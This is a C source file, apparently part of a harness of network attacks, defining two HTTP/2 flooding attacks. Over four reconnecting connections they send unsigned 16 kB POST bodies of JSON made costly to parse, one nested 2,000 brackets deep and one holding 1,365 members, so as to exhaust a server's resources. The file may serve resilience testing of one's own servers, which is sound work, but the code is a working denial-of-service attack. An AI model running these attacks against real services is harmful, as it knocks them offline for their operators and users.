/* SPDX-License-Identifier: Apache-2.0 */
/* JSON that is expensive to read, from somebody who has shown no signature yet. */
#include "attack.h"

#include <err.h>
#include <stdio.h>
#include <string.h>

#define BODY_SIZE   16384 /* limits.body as it is by default */
#define STREAMS_MAX 16
#define DEPTH       2000

typedef struct text {
    char at[BODY_SIZE];
    size_t size;
} text;

static void put_json(client *c, const text *body)
{
    while (c->open_streams < STREAMS_MAX && c->window >= (int64_t)body->size &&
           c->out_size < 4 * FLOOD) {
        const uint32_t stream = put_post(c, "application/json", body->size, END_HEADERS);
        put_frame(c, DATA, END_STREAM, stream, body->at, body->size);
        c->window -= (int64_t)body->size;
    }
}

/* {"a":[[[…]]]} */
static bool turn_nested(client *c)
{
    static text body;
    if (body.size == 0) {
        body.size = (size_t)snprintf(body.at, sizeof(body.at), "{\"a\":");
        memset(body.at + body.size, '[', DEPTH);
        memset(body.at + body.size + DEPTH, ']', DEPTH);
        body.size += 2 * (size_t)DEPTH;
        memset(body.at + body.size, ' ', sizeof(body.at) - body.size);
        body.at[sizeof(body.at) - 1] = '}';
        body.size = sizeof(body.at);
    }
    put_json(c, &body);
    return true;
}

/* {"p0000":"v",…}: 1,365 of them. */
static bool turn_members(client *c)
{
    static text body;
    if (body.size == 0) {
        char member[16];
        body.at[body.size++] = '{';
        for (unsigned i = 0; body.size + 14 < sizeof(body.at); i++) {
            const int size = snprintf(member, sizeof(member), "\"p%04u\":\"v\",", i);
            memcpy(body.at + body.size, member, (size_t)size);
            body.size += (size_t)size;
        }
        body.at[body.size - 1] = '}';
    }
    put_json(c, &body);
    return true;
}

const attack json_nested = {
    .name = "json-nested",
    .help = "unsigned POSTs of 16 kB of nested JSON",
    .carriage = CARRY_H2,
    .connections = 4,
    .reconnects = true,
    .turn = turn_nested,
};

const attack json_members = {
    .name = "json-members",
    .help = "unsigned POSTs of 16 kB of JSON with 1,365 members",
    .carriage = CARRY_H2,
    .connections = 4,
    .reconnects = true,
    .turn = turn_members,
};
